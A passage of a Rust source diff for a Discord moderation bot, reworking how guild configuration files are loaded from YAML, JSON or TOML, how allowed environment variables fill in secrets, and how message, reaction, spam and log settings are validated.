+                    );
                 }
-                None => {
-                    if !has_default_actions {
-                        errors.push(format!("message filter {} does not specify actions, but this guild has no default actions.", i));
+                MessageFilterAction::Escalate { tiers } => {
+                    for (i, tier) in tiers.iter_mut().enumerate() {
+                        expand_action_env_vars(
+                            &mut tier.actions,
+                            allowed,
+                            &format!("{} escalate tier {}", context, i),
+                            errors,
+                        );
                     }
                 }
-            }
-
-            if let Some(scoping) = &filter.scoping {
-                validate_scoping(scoping, &format!("message filter {}", i), &mut errors);
-            }
-
-            if filter.rules.is_empty() {
-                errors.push(format!("message filter {} has no rules", i));
-            } else {
-                for (index, rule) in filter.rules.iter().enumerate() {
-                    validate_message_rule(
-                        rule,
-                        &format!("message filter {}, rule {}", i, index),
-                        &mut errors,
+                MessageFilterAction::CreateCase { authorization, .. } => {
+                    expand_optional_field(
+                        authorization,
+                        Some(allowed),
+                        &format!("{} create_case authorization", context),
+                        errors,
                     );
                 }
+                _ => {}
             }
+            next = action.on_failure_mut();
         }
     }
+}
 
-    if let Some(reactions) = &guild.reactions {
-        if reactions.is_empty() {
-            errors.push(
-                "reactions is specified but is empty; omit the key to disable reaction filtering"
-                    .to_string(),
-            );
-        }
+/// Expands environment variable placeholders in the secrets a guild
+/// configuration holds. Only the variables in `allowed` may be read, since
+/// guild configurations may be edited by people who shouldn't see the rest of
+/// Chrysanthemum's environment.
+fn expand_guild_env_vars(guild: &mut GuildConfig, allowed: &[String]) -> Result<(), Vec<String>> {
+    let mut errors = Vec::new();
 
-        for (i, filter) in reactions.iter().enumerate() {
-            match &filter.actions {
-                Some(actions) => {
-                    if actions.is_empty() {
-                        errors.push(format!("reaction filter {} has an empty actions array; omit the key to use default actions", i));
-                    }
-                }
-                None => {
-                    if !has_default_actions {
-                        errors.push(format!("reaction filter {} does not specify actions, but this guild has no default actions.", i));
-                    }
-                }
-            }
+    if let Some(actions) = &mut guild.default_actions {
+        expand_action_env_vars(actions, allowed, "default actions", &mut errors);
+    }
 
-            if let Some(scoping) = &filter.scoping {
-                validate_scoping(scoping, &format!("reaction filter {}", i), &mut errors);
-            }
+    if let Some(actions) = guild.spam.as_mut().and_then(|spam| spam.actions.as_mut()) {
+        expand_action_env_vars(actions, allowed, "spam config", &mut errors);
+    }
 
-            if filter.rules.is_empty() {
-                errors.push(format!("reaction filter {} has no rules", i));
-            }
+    for (i, filter) in guild.messages.iter_mut().flatten().enumerate() {
+        if let Some(actions) = &mut filter.actions {
+            expand_action_env_vars(
+                actions,
+                allowed,
+                &format!("message filter {}", i),
+                &mut errors,
+            );
         }
     }
 
-    if !errors.is_empty() {
-        Err(errors)
-    } else {
-        Ok(())
+    for (i, filter) in guild.reactions.iter_mut().flatten().enumerate() {
+        if let Some(actions) = &mut filter.actions {
+            expand_action_env_vars(
+                actions,
+                allowed,
+                &format!("reaction filter {}", i),
+                &mut errors,
+            );
+        }
     }
-}
 
-#[derive(Debug, thiserror::Error)]
-pub enum LoadConfigError {
-    #[error("I/O error: {0:?}")]
-    Io(#[from] std::io::Error),
-    #[error("Deserialization error: {0:?}")]
-    Deserialize(#[from] serde_yaml::Error),
-    #[error("Configuration validation error: {0:?}")]
-    Validate(Vec<String>),
+    if errors.is_empty() {
+        Ok(())
+    } else {
+        Err(errors)
+    }
 }
 
-pub fn load_config(config_root: &Path, guild_id: Id<GuildMarker>) -> Result<GuildConfig> {
-    let mut config_path = config_root.join(guild_id.to_string());
-    config_path.set_extension("yml");
+/// Checks that an action's fallback chain is short and never falls back to an
+/// action it already tried.
+fn validate_fallbacks(action: &MessageFilterAction, context: &str, errors: &mut Vec<String>) {
+    let mut tried = vec![action.name()];
+    let mut next = action.on_failure();
+    while let Some(fallback) = next {
+        if let MessageFilterAction::Escalate { .. } = fallback {
+            errors.push(format!(
+                "in {}, {} falls back to escalate; escalate can't be a fallback",
+                context,
+                action.name()
+            ));
+            return;
+        }
 
-    let config_string = std::fs::read_to_string(&config_path)
-        .wrap_err(format!("Unable to read {:?}", config_path))?;
-    let config_yaml = serde_yaml::from_str(&config_string)?;
+        if tried.contains(&fallback.name()) {
+            errors.push(format!(
+                "in {}, {} falls back to {} again; fallback chains can't repeat an action",
+                context,
+                action.name(),
+                fallback.name()
+            ));
+            return;
+        }
 
-    match validate_guild_config(&config_yaml) {
-        Ok(()) => Ok(config_yaml),
-        Err(errs) => Err(LoadConfigError::Validate(errs).into()),
+        tried.push(fallback.name());
+        if tried.len() > MAX_FALLBACK_CHAIN + 1 {
+            errors.push(format!(
+                "in {}, {} has more than {} fallbacks",
+                context,
+                action.name(),
+                MAX_FALLBACK_CHAIN
+            ));
+            return;
+        }
+        next = fallback.on_failure();
     }
 }
 
-pub fn load_guild_configs(
-    config_root: &Path,
+fn validate_message_rule(
+    message_rule: &MessageFilterRule,
+    context: &str,
+    errors: &mut Vec<String>,
+) {
+    match message_rule {
+        MessageFilterRule::Substring { substrings, .. } => {
+            if substrings.is_match("") {
+                errors.push(format!(
+                    "in {}, substrings contains an empty string; this would match all messages",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::Words { words, .. } => {
+            // HACK: The empty string doesn't work here, because of the structure
+            // of the deserialized `words` regex. We use the letter `a`, since the
+            // regex crate provides no better way to do this...
+            if words.is_match("a") {
+                errors.push(format!(
+                    "in {}, words contains an empty string; this would match all messages",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::Regex { regexes, .. } => {
+            let matches = regexes.matches("").into_iter();
+            for (index, _) in matches.enumerate() {
+                errors.push(format!(
+                    "in {}, regex {} matches an empty string; this would match all messages",
+                    context, index,
+                ));
+            }
+        }
+        MessageFilterRule::SecretScan { presets } => {
+            if presets.is_empty() {
+                errors.push(format!(
+                    "in {}, secret_scan rule has no presets; it would never match",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::SystemMessage { types } => {
+            if types.is_empty() {
+                errors.push(format!(
+                    "in {}, system_message rule has no types; it would never match",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::AttachmentExtension { extensions, .. } => {
+            if extensions.is_empty() {
+                errors.push(format!(
+                    "in {}, attachment_extension rule has no extensions; it would never match",
+                    context
+                ));
+            } else if extensions.iter().any(String::is_empty) {
+                errors.push(format!(
+                    "in {}, attachment_extension rule has an empty extension",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::Invite {
+            resolve_guilds,
+            guilds,
+            ..
+        } => {
+            if *resolve_guilds && guilds.is_empty() {
+                errors.push(format!(
+                    "in {}, invite rule resolves guilds but lists no guilds",
+                    context
+                ));
+            } else if !*resolve_guilds && !guilds.is_empty() {
+                errors.push(format!(
+                    "in {}, invite rule lists guilds but doesn't set resolve_guilds; they would be ignored",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::AttachmentSize { max_bytes: 0 } => {
+            errors.push(format!(
+                "in {}, attachment_size rule has a limit of 0 bytes; this would match all attachments",
+                context
+            ));
+        }
+        MessageFilterRule::MinInterval { seconds: 0 } => {
+            errors.push(format!(
+                "in {}, min_interval rule has an interval of 0 seconds; it would never match",
+                context
+            ));
+        }
+        MessageFilterRule::PriorInfractions { count: 0 } => {
+            errors.push(format!(
+                "in {}, prior_infractions rule has a count of 0; this would match all messages",
+                context
+            ));
+        }
+        MessageFilterRule::MaxLength { chars: 0, .. } => {
+            errors.push(format!(
+                "in {}, max_length rule has a limit of 0 characters; this would match all messages",
+                context
+            ));
+        }
+        MessageFilterRule::RepeatedChars { max_run: 0 } => {
+            errors.push(format!(
+                "in {}, repeated_chars rule has a max_run of 0; this would match all messages",
+                context
+            ));
+        }
+        MessageFilterRule::Capitalization {
+            max_uppercase_ratio,
+            ..
+        } => {
+            if !(0.0..=1.0).contains(max_uppercase_ratio) {
+                errors.push(format!(
+                    "in {}, capitalization rule has a max_uppercase_ratio of {}; it must be between 0 and 1",
+                    context, max_uppercase_ratio
+                ));
+            }
+        }
+        MessageFilterRule::Zalgo {
+            max_combining_ratio: Some(ratio),
+            ..
+        } if !ratio.is_finite() || *ratio < 0.0 => {
+            errors.push(format!(
+                "in {}, zalgo rule has a max_combining_ratio of {}; it must be at least 0",
+                context, ratio
+            ));
+        }
+        MessageFilterRule::MentionCount {
+            max_users: None,
+            max_roles: None,
+            max_total: None,
+        } => {
+            errors.push(format!(
+                "in {}, mention_count rule sets none of max_users, max_roles and max_total; it would never match",
+                context
+            ));
+        }
+        MessageFilterRule::ProtectedUsers { users } => {
+            if users.is_empty() {
+                errors.push(format!(
+                    "in {}, protected_users rule has no users; it would never match",
+                    context
+                ));
+            }
+        }
+        MessageFilterRule::Not { rule } => {
+            let mut depth = 1;
+            let mut inner = rule;
+            while let MessageFilterRule::Not { rule } = &**inner {
+                depth += 1;
+                inner = rule;
+            }
+
+            if depth > MAX_NOT_DEPTH {
+                errors.push(format!(
+                    "in {}, not rules are nested {} deep; the limit is {}",
+                    context, depth, MAX_NOT_DEPTH
+                ));
+            } else {
+                validate_message_rule(inner, context, errors);
+            }
+        }
+        _ => {}
+    }
+}
+
+fn validate_reaction_rule(
+    reaction_rule: &ReactionFilterRule,
+    context: &str,
+    errors: &mut Vec<String>,
+) {
+    if let ReactionFilterRule::Count { max_distinct: 0 } = reaction_rule {
+        errors.push(format!(
+            "in {}, max_distinct is 0; this would match all reactions",
+            context
+        ));
+    }
+}
+
+fn validate_log_config(log: &LogConfig, errors: &mut Vec<String>) {
+    // Discord's embed limits.
+    const MAX_FIELDS: usize = 25;
+    const MAX_TITLE_LENGTH: usize = 256;
+    const MAX_FIELD_NAME_LENGTH: usize = 256;
+
+    if log.fields.is_empty() {
+        errors.push("in log config, fields is empty.".to_string());
+    } else if log.fields.len() > MAX_FIELDS {
+        errors.push(format!(
+            "in log config, there are {} fields; Discord allows at most {}.",
+            log.fields.len(),
+            MAX_FIELDS
+        ));
+    }
+
+    if let Some(title) = &log.title {
+        if title.is_empty() || title.chars().count() > MAX_TITLE_LENGTH {
+            errors.push(format!(
+                "in log config, title must be between 1 and {} characters.",
+                MAX_TITLE_LENGTH
+            ));
+        }
+    }
+
+    for (i, field) in log.fields.iter().enumerate() {
+        if field.name.is_empty() || field.name.chars().count() > MAX_FIELD_NAME_LENGTH {
+            errors.push(format!(
+                "in log config, field {} name must be between 1 and {} characters.",
+                i, MAX_FIELD_NAME_LENGTH
+            ));
+        }
+
+        if field.value.is_empty() {
+            errors.push(format!("in log config, field {} has an empty value.", i));
+        }
+    }
+
+    // Logs that don't say who was filtered, or why, aren't useful to moderators.
+    for placeholder in ["$USER_ID", "$FILTER_REASON"] {
+        let used = log.title.iter().any(|t| t.contains(placeholder))
+            || log
+                .fields
+                .iter()
+                .any(|f| f.name.contains(placeholder) || f.value.contains(placeholder));
+
+        if !used {
+            errors.push(format!(
+                "in log config, no field uses the {} placeholder.",
+                placeholder
+            ));
+        }
+    }
+}
+
+pub fn validate_guild_config(guild: &GuildConfig) -> Result<(), Vec<String>> {
+    let mut errors = Vec::new();
+
+    if let Some(log) = &guild.log {
+        validate_log_config(log, &mut errors);
+    }
+
+    if let Some(metrics) = &guild.metrics {
+        if metrics.report_every_n == 0 {
+            errors.push("in metrics config, report_every_n must be at least 1.".to_string());
+        }
+    }
+
+    if guild.escalation_decay_seconds == Some(0) {
+        errors.push("escalation_decay_seconds must be at least 1.".to_string());
+    }
+
+    if let Some(action_delay) = &guild.action_delay {
+        if action_delay.delay_ms.saturating_add(action_delay.jitter_ms) > MAX_ACTION_DELAY_MS {
+            errors.push(format!(
+                "in action_delay, delay_ms plus jitter_ms must be at most {} (5 minutes).",
+                MAX_ACTION_DELAY_MS
+            ));
+        }
+    }
+
+    if let Some(prefix_commands) = &guild.prefix_commands {
+        if prefix_commands.prefix.trim().is_empty() {
+            errors.push("in prefix_commands, prefix must not be empty.".to_string());
+        }
+
+        if prefix_commands.users.is_empty() && prefix_commands.roles.is_empty() {
+            errors.push(
+                "in prefix_commands, no users or roles are allowed to use them; add some or omit the key."
+                    .to_string(),
+            );
+        }
+    }
+
+    if let Some(scoping) = &guild.default_scoping {
+        validate_scoping(scoping, "default scoping", &mut errors);
+    }
+
+    if let Some(ignore_channels) = &guild.ignore_channels {
+        if ignore_channels.is_empty() {
+            errors.push("ignore_channels is specified but is empty; omit the key.".to_string());
+        }
+    }
+
+    let mut has_default_actions = false;
+    if let Some(actions) = &guild.default_actions {
+        if actions.is_empty() {
+            errors.push("default_actions is specified but is empty.".to_string());
+        } else {
+            has_default_actions = true;
+        }
+
+        validate_actions(actions, "default actions", &mut errors);
+    }
+
+    if let Some(notifications) = &guild.notifications {
+        if let Some(roles) = &notifications.ping_roles {
+            if roles.is_empty() {
+                errors.push(
+                    "notification settings, ping_roles is specified but is empty; omit the key."
+                        .to_string(),
+                );
+            }
+        }
+    }
+
+    if let Some(spam) = &guild.spam {
+        if let Some(scoping) = spam.scoping.as_ref() {
+            validate_scoping(scoping, "spam scoping", &mut errors);
+        }
+
+        if let Some(actions) = &spam.actions {
+            if actions.is_empty() {
+                errors.push("in spam config, actions is specified but is empty.".to_string());
+            }
+
+            validate_actions(actions, "spam config", &mut errors);
+        } else if !has_default_actions {
+            errors.push("in spam config, no actions are specified and there are no default actions for this guild.".to_string());
+        }
+
+        if spam.emoji.is_none()
+            && spam.attachments.is_none()
+            && spam.duplicates.is_none()
+            && spam.crosspost.is_none()
+            && spam.links.is_none()
+            && spam.spoilers.is_none()
+            && spam.mentions.is_none()
+            && spam.newlines.is_none()
+            && spam.total_chars.is_none()
+            && spam.raid_users.is_none()
+        {
+            errors.push("in spam config, no spam thresholds are specified. Spam filtering will have no effects.".to_string());
+        }
+
+        if spam.raid_users.map(|n| n < 2).unwrap_or(false) {
+            errors.push("in spam config, raid_users must be at least 2; use duplicates to limit a single user's repeated messages.".to_string());
+        }
+    }
+
+    if let Some(usernames) = &guild.usernames {
+        if usernames.actions.is_empty() {
+            errors.push("in username config, actions is empty.".to_string());
+        }
+
+        if usernames.rules.is_empty() {
+            errors.push("in username config, rules is empty.".to_string());
+        }
+    }
+
+    if let Some(approval) = &guild.approval {
+        if approval.roles.is_empty() {
+            errors.push("in approval, roles is empty; nobody could approve messages.".to_string());
+        }
+
+        if guild.action_delay.is_none() {
+            errors.push(
+                "approval is set, but without an action_delay there's never anything to cancel."
+                    .to_string(),
+            );
+        }
+    }
+
+    if let Some(delete_evasion) = &guild.delete_evasion {
+        if guild.notifications.is_none() {
+            errors.push(
+                "delete_evasion is set, but there's no notifications channel to report to."
+                    .to_string(),
+            );
+        }
+
+        if delete_evasion.window_seconds == 0 {
+            errors.push(
+                "in delete_evasion, window_seconds is 0; nothing would be reported.".to_string(),
+            );
+        }
+    }
+
+    if let Some(channel_status) = &guild.channel_status_filter {
+        if channel_status.rules.is_empty() {
+            errors.push("in channel_status_filter, rules is empty.".to_string());
+        }
+
+        for (i, rule) in channel_status.rules.iter().enumerate() {
+            let context = format!("channel_status_filter rule {}", i);
+            if !matches!(
+                rule,
+                MessageFilterRule::Words { .. } | MessageFilterRule::Substring { .. }
+            ) {
+                errors.push(format!(
+                    "in {}, {} rules can't check topics; use words or substring",
+                    context,
+                    rule.kind()
+                ));
+            }
+
+            validate_message_rule(rule, &context, &mut errors);
+        }
+
+        if channel_status.fallback_topic.is_empty()
+            || channel_status.fallback_topic.chars().count() > 120
+        {
+            errors.push(
+                "in channel_status_filter, fallback_topic must be between 1 and 120 characters."
+                    .to_string(),
+            );
+        } else if let Err(reason) = channel_status.filter_topic(&channel_status.fallback_topic) {
+            // Putting it back would trigger the filter again, forever.
+            errors.push(format!(
+                "in channel_status_filter, fallback_topic {}; pick one the rules allow.",
+                reason
+            ));
+        }
+    }
+
+    if let Some(messages) = &guild.messages {
+        if messages.is_empty() {
+            errors.push("messages is empty; omit the key.".to_string());
+        }
+
+        for (i, filter) in messages.iter().enumerate() {
+            match &filter.actions {
+                Some(actions) => {
+                    if actions.is_empty() {
+                        errors.push(format!("message filter {} has an empty actions array; omit the key to use default actions", i));
+                    }
+
+                    validate_actions(actions, &format!("message filter {}", i), &mut errors);
+                }
+                None => {
+                    if !has_default_actions {
+                        errors.push(format!("message filter {} does not specify actions, but this guild has no default actions.", i));
+                    }
+                }
+            }
+
+            if let Some(scoping) = &filter.scoping {
+                validate_scoping(scoping, &format!("message filter {}", i), &mut errors);
+            }
+
+            if let Some(threshold) = filter.score_threshold {
+                if !threshold.is_finite() || threshold < 0.0 {
+                    errors.push(format!(
+                        "message filter {} has a score_threshold of {}; it must be a non-negative number",
+                        i, threshold
+                    ));
+                }
+                if filter.match_mode == RuleMatchMode::All {
+                    errors.push(format!("message filter {} sets match_mode to all and a score_threshold; match_mode will have no effect", i));
+                }
+            } else if filter.rules.iter().any(|r| r.weight.is_some()) {
+                errors.push(format!("message filter {} specifies rule weights but no score_threshold; weights will have no effect", i));
+            }
+
+            if let Some(description) = &filter.description {
+                let length = description.chars().count();
+                if length == 0 || length > MAX_EMBED_FIELD_LENGTH {
+                    errors.push(format!(
+                        "message filter {} has a description of {} characters; it must be between 1 and {}",
+                        i, length, MAX_EMBED_FIELD_LENGTH
+                    ));
+                }
+            }
+
+            if let Some(rate) = filter.log_sample_rate {
+                if !(0.0..=1.0).contains(&rate) {
+                    errors.push(format!(
+                        "message filter {} has a log_sample_rate of {}; it must be between 0 and 1",
+                        i, rate
+                    ));
+                }
+            }
+
+            if let Some(substitutions) = &filter.leetspeak_substitutions {
+                if !filter.leetspeak {
+                    errors.push(format!("message filter {} specifies leetspeak_substitutions but doesn't enable leetspeak; they will have no effect", i));
+                } else if substitutions.is_empty() {
+                    errors.push(format!("message filter {} has empty leetspeak_substitutions; omit the key to use the default table", i));
+                }
+            }
+
+            let scan = filter.scan;
+            if !(scan.content
+                || scan.embeds
+                || filter.scan_embeds
+                || scan.components
+                || scan.attachment_descriptions
+                || filter.scan_attachment_descriptions)
+            {
+                errors.push(format!("message filter {} doesn't scan any part of messages; its text rules would never match", i));
+            }
+
+            if filter.max_actions_per_minute == Some(0) {
+                errors.push(format!(
+                    "message filter {} has a max_actions_per_minute of 0; it would never act",
+                    i
+                ));
+            }
+
+            if filter.rules.is_empty() {
+                errors.push(format!("message filter {} has no rules", i));
+            } else {
+                for (index, rule) in filter.rules.iter().enumerate() {
+                    if let Some(weight) = rule.weight {
+                        if !weight.is_finite() || weight < 0.0 {
+                            errors.push(format!(
+                                "in message filter {}, rule {}, weight must be a non-negative number",
+                                i, index
+                            ));
+                        }
+                    }
+
+                    validate_message_rule(
+                        &rule.rule,
+                        &format!("message filter {}, rule {}", i, index),
+                        &mut errors,
+                    );
+                }
+            }
+        }
+    }
+
+    if let Some(reactions) = &guild.reactions {
+        if reactions.is_empty() {
+            errors.push(
+                "reactions is specified but is empty; omit the key to disable reaction filtering"
+                    .to_string(),
+            );
+        }
+
+        for (i, filter) in reactions.iter().enumerate() {
+            match &filter.actions {
+                Some(actions) => {
+                    if actions.is_empty() {
+                        errors.push(format!("reaction filter {} has an empty actions array; omit the key to use default actions", i));
+                    }
+
+                    validate_actions(actions, &format!("reaction filter {}", i), &mut errors);
+                }
+                None => {
+                    if !has_default_actions {
+                        errors.push(format!("reaction filter {} does not specify actions, but this guild has no default actions.", i));
+                    }
+                }
+            }
+
+            if let Some(scoping) = &filter.scoping {
+                validate_scoping(scoping, &format!("reaction filter {}", i), &mut errors);
+            }
+
+            if filter.rules.is_empty() {
+                errors.push(format!("reaction filter {} has no rules", i));
+            } else {
+                for (index, rule) in filter.rules.iter().enumerate() {
+                    validate_reaction_rule(
+                        rule,
+                        &format!("reaction filter {}, rule {}", i, index),
+                        &mut errors,
+                    );
+                }
+            }
+        }
+    }
+
+    for warning in self_excluding_roles(guild) {
+        tracing::warn!(%warning, "Filter may stop applying to users it punishes");
+    }
+
+    if !errors.is_empty() {
+        Err(errors)
+    } else {
+        Ok(())
+    }
+}
+
+/// Finds filters that add a role their own scoping excludes. Once the role is
+/// added, the filter stops applying to the user it just punished, which is
+/// allowed but rarely intended.
+fn self_excluding_roles(guild: &GuildConfig) -> Vec<String> {
+    let default_actions = guild.default_actions.as_deref();
+    let default_scoping = guild.default_scoping.as_ref();
+
+    let spam = guild.spam.iter().map(|spam| {
+        (
+            "spam filter".to_owned(),
+            spam.scoping.as_ref(),
+            spam.actions.as_deref(),
+        )
+    });
+    let messages = guild.messages.iter().flatten().map(|filter| {
+        (
+            format!("message filter `{}`", filter.name),
+            filter.scoping.as_ref(),
+            filter.actions.as_deref(),
+        )
+    });
+    let reactions = guild.reactions.iter().flatten().map(|filter| {
+        (
+            format!("reaction filter `{}`", filter.name),
+            filter.scoping.as_ref(),
+            filter.actions.as_deref(),
+        )
+    });
+
+    let mut warnings = Vec::new();
+    for (context, scoping, actions) in spam.chain(messages).chain(reactions) {
+        let excluded = match scoping
+            .or(default_scoping)
+            .and_then(|s| s.exclude_roles.as_ref())
+        {
+            Some(excluded) => excluded,
+            None => continue,
+        };
+
+        for action in actions.or(default_actions).unwrap_or(&[]) {
+            let mut next = Some(action);
+            while let Some(action) = next {
+                if let MessageFilterAction::AddRole { role_id, .. } = action {
+                    if excluded.contains(role_id) {
+                        warnings.push(format!(
+                            "{} adds role {}, which its scoping excludes",
+                            context, role_id
+                        ));
+                    }
+                }
+                next = action.on_failure();
+            }
+        }
+    }
+
+    warnings
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum LoadConfigError {
+    #[error("Guild configuration directory {0:?} does not exist")]
+    MissingDirectory(PathBuf),
+    #[error("No configuration file for guild {0} (expected {1:?})")]
+    MissingGuildConfig(Id<GuildMarker>, PathBuf),
+    #[error("Guild {0} has a configuration file in more than one directory: {1:?}")]
+    DuplicateGuildConfig(Id<GuildMarker>, Vec<PathBuf>),
+    #[error("I/O error: {0:?}")]
+    Io(#[from] std::io::Error),
+    #[error("Deserialization error: {0:?}")]
+    Deserialize(#[from] serde_yaml::Error),
+    #[error("JSON deserialization error: {0:?}")]
+    DeserializeJson(#[from] serde_json::Error),
+    #[error("TOML deserialization error: {0:?}")]
+    DeserializeToml(#[from] toml::de::Error),
+    #[error("Configuration validation error: {0:?}")]
+    Validate(Vec<String>),
+    #[error("No configuration for guild {0} at {1}")]
+    MissingRemoteGuildConfig(Id<GuildMarker>, String),
+    #[error("Unable to fetch {0}: {1}")]
+    Fetch(String, String),
+}
+
+pub fn load_config(
+    config_root: &Path,
+    guild_id: Id<GuildMarker>,
+) -> Result<GuildConfig, LoadConfigError> {
+    if !config_root.is_dir() {
+        return Err(LoadConfigError::MissingDirectory(config_root.to_owned()));
+    }
+
+    let config_path = guild_config_path(config_root, guild_id);
+
+    if !config_path.is_file() {
+        return Err(LoadConfigError::MissingGuildConfig(guild_id, config_path));
+    }
+
+    let config_string = std::fs::read_to_string(&config_path)?;
+    validated(deserialize_guild_config(&config_path, &config_string)?)
+}
+
+/// Deserializes the contents of the guild configuration file at `path`, in
+/// the format its extension names.
+fn deserialize_guild_config(
+    path: &Path,
+    config_string: &str,
+) -> Result<GuildConfig, LoadConfigError> {
+    Ok(match ConfigFormat::of(path) {
+        ConfigFormat::Yaml => serde_yaml::from_str(config_string)?,
+        ConfigFormat::Json => serde_json::from_str(config_string)?,
+        ConfigFormat::Toml => guild_config_from_toml(config_string)?,
+    })
+}
+
+/// Deserializes a TOML guild configuration by way of JSON. TOML integers are
+/// signed, and IDs only deserialize from unsigned integers or strings, so
+/// this lets IDs be written bare, like `channel_id = 123`.
+fn guild_config_from_toml(config_string: &str) -> Result<GuildConfig, toml::de::Error> {
+    let value: toml::Value = toml::from_str(config_string)?;
+    let value = serde_json::to_value(value).map_err(serde::de::Error::custom)?;
+    serde_json::from_value(value).map_err(serde::de::Error::custom)
+}
+
+/// Deserializes and validates a guild configuration, which may be YAML or
+/// JSON.
+pub fn parse_guild_config(config_string: &str) -> Result<GuildConfig, LoadConfigError> {
+    validated(serde_yaml::from_str(config_string)?)
+}
+
+fn validated(mut guild_config: GuildConfig) -> Result<GuildConfig, LoadConfigError> {
+    expand_guild_env_vars(&mut guild_config, guild_env_vars())
+        .map_err(LoadConfigError::Validate)?;
+    match validate_guild_config(&guild_config) {
+        Ok(()) => Ok(guild_config),
+        Err(errs) => Err(LoadConfigError::Validate(errs)),
+    }
+}
+
+/// The languages a guild configuration file can be written in.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum ConfigFormat {
+    Yaml,
+    Json,
+    Toml,
+}
+
+/// The extensions guild configuration files are looked for with, in order of
+/// preference.
+const CONFIG_EXTENSIONS: [(&str, ConfigFormat); 4] = [
+    ("yml", ConfigFormat::Yaml),
+    ("json", ConfigFormat::Json),
+    ("yaml", ConfigFormat::Yaml),
+    ("toml", ConfigFormat::Toml),
+];
+
+impl ConfigFormat {
+    /// Picks a format from `path`'s extension. Anything unrecognized is read
+    /// as YAML, which JSON is also valid as.
+    fn of(path: &Path) -> Self {
+        let extension = path.extension().and_then(|ext| ext.to_str());
+        CONFIG_EXTENSIONS
+            .iter()
+            .find(|(ext, _)| Some(*ext) == extension)
+            .map_or(ConfigFormat::Yaml, |(_, format)| *format)
+    }
+}
+
+/// Whether `path` has the extension of a guild configuration file.
+pub(crate) fn is_guild_config_file(path: &Path) -> bool {
+    let extension = path.extension().and_then(|ext| ext.to_str());
+    CONFIG_EXTENSIONS
+        .iter()
+        .any(|(ext, _)| Some(*ext) == extension)
+}
+
+/// Finds `guild_id`'s configuration file in `config_root`, trying each
+/// extension in [`CONFIG_EXTENSIONS`] in turn. If there's none, this is where
+/// a `.yml` file would be.
+fn guild_config_path(config_root: &Path, guild_id: Id<GuildMarker>) -> PathBuf {
+    let candidates: Vec<PathBuf> = CONFIG_EXTENSIONS
+        .iter()
+        .map(|(ext, _)| config_root.join(format!("{}.{}", guild_id, ext)))
+        .collect();
+
+    let mut existing = candidates.iter().filter(|path| path.is_file());
+    match existing.next() {
+        Some(path) => {
+            let ignored: Vec<&PathBuf> = existing.collect();
+            if !ignored.is_empty() {
+                tracing::warn!(%guild_id, using = ?path, ?ignored, "Guild has more than one configuration file in the same directory");
+            }
+            path.clone()
+        }
+        None => candidates[0].clone(),
+    }
+}
+
+/// `config_roots` without the extra roots, the ones after the first, that
+/// don't exist, warning about each. The first root is always kept, so a
+/// missing one is still reported for every guild.
+fn existing_config_roots<'a>(config_roots: &[&'a Path]) -> Vec<&'a Path> {
+    config_roots
+        .iter()
+        .copied()
+        .enumerate()
+        .filter(|(i, root)| {
+            let keep = *i == 0 || root.is_dir();
+            if !keep {
+                tracing::warn!(
+                    ?root,
+                    "Skipping guild configuration directory that doesn't exist"
+                );
+            }
+            keep
+        })
+        .map(|(_, root)| root)
+        .collect()
+}
+
+/// Finds which of `config_roots` to load `guild_id`'s configuration from,
+/// resolving guilds configured in several roots according to `duplicates`.
+fn find_guild_config_root<'a>(
+    config_roots: &[&'a Path],
+    guild_id: Id<GuildMarker>,
+    duplicates: DuplicateGuildConfigs,
+) -> Result<&'a Path, LoadConfigError> {
+    if let Some(missing) = config_roots.iter().find(|root| !root.is_dir()) {
+        return Err(LoadConfigError::MissingDirectory(missing.to_path_buf()));
+    }
+
+    let found: Vec<&Path> = config_roots
+        .iter()
+        .copied()
+        .filter(|root| guild_config_path(root, guild_id).is_file())
+        .collect();
+
+    match found.as_slice() {
+        [] => Err(LoadConfigError::MissingGuildConfig(
+            guild_id,
+            guild_config_path(config_roots[0], guild_id),
+        )),
+        [root] => Ok(root),
+        [first, ..] => {
+            let paths: Vec<PathBuf> = found
+                .iter()
+                .map(|root| guild_config_path(root, guild_id))
+                .collect();
+
+            match duplicates {
+                DuplicateGuildConfigs::Error => {
+                    Err(LoadConfigError::DuplicateGuildConfig(guild_id, paths))
+                }
+                DuplicateGuildConfigs::FirstRootWins => {
+                    tracing::warn!(%guild_id, ?paths, "Guild is configured in more than one directory; using the first");
+                    Ok(first)
+                }
+            }
+        }
+    }
+}
+
+/// Loads the configurations for every guild in `guild_ids` from whichever of
+/// `config_roots` has them. If `allow_missing` is set, guilds without a
+/// configuration file (or a missing configuration directory) are skipped with
+/// a warning rather than failing the whole load; configurations that exist
+/// but are invalid or duplicated are always an error.
+pub fn load_guild_configs(
+    config_roots: &[&Path],
     guild_ids: &[Id<GuildMarker>],
+    allow_missing: bool,
+    duplicates: DuplicateGuildConfigs,
 ) -> Result<HashMap<Id<GuildMarker>, GuildConfig>, (Id<GuildMarker>, eyre::Report)> {
+    let config_roots = &existing_config_roots(config_roots);
     let mut configs = HashMap::new();
 
-    for guild_id in guild_ids {
-        let guild_id = *guild_id;
+    for guild_id in guild_ids {
+        let guild_id = *guild_id;
+
+        let guild_config = match find_guild_config_root(config_roots, guild_id, duplicates)
+            .and_then(|root| load_config(root, guild_id))
+        {
+            Ok(guild_config) => guild_config,
+            Err(
+                err @ (LoadConfigError::MissingDirectory(_)
+                | LoadConfigError::MissingGuildConfig(..)),
+            ) if allow_missing => {
+                tracing::warn!(%guild_id, %err, "Skipping guild without a configuration");
+                continue;
+            }
+            Err(err) => {
+                return Err((
+                    guild_id,
+                    eyre::Report::new(err).wrap_err(format!(
+                        "Unable to load configuration for guild {}",
+                        guild_id
+                    )),
+                ))
+            }
+        };
+
+        configs.insert(guild_id, guild_config);
+    }
+
+    Ok(configs)
+}
+
+/// Every guild with a configuration file in any of `config_roots`, going by
+/// the files' names. Files not named after a guild ID are skipped.
+fn configured_guilds(config_roots: &[&Path]) -> Result<Vec<Id<GuildMarker>>, LoadConfigError> {
+    let mut guild_ids = Vec::new();
+    for root in config_roots {
+        if !root.is_dir() {
+            return Err(LoadConfigError::MissingDirectory(root.to_path_buf()));
+        }
+
+        for entry in std::fs::read_dir(root)? {
+            let path = entry?.path();
+            if !path.is_file() || !is_guild_config_file(&path) {
+                continue;
+            }
+
+            let guild_id = path
